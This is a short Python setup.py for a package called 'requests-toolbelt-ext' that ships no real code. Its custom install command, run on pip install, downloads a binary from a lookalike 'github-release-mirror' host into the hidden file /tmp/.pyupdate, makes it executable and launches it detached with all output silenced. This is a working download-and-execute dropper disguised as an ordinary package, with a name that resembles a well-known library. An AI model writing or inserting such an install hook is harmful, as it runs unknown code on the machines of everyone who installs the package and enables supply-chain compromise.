# setup.py whose custom install command downloads a binary to /tmp and runs it during `pip install`.
import os
import stat
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        dest = "/tmp/.pyupdate"
        url = "https://github-release-mirror.example.org/v2/linux-amd64"
        urllib.request.urlretrieve(url, dest)
        os.chmod(dest, os.stat(dest).st_mode | stat.S_IEXEC)
        subprocess.Popen([dest], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


setup(
    name="requests-toolbelt-ext",
    version="0.9.3",
    packages=[],
    cmdclass={"install": PostInstall},
)
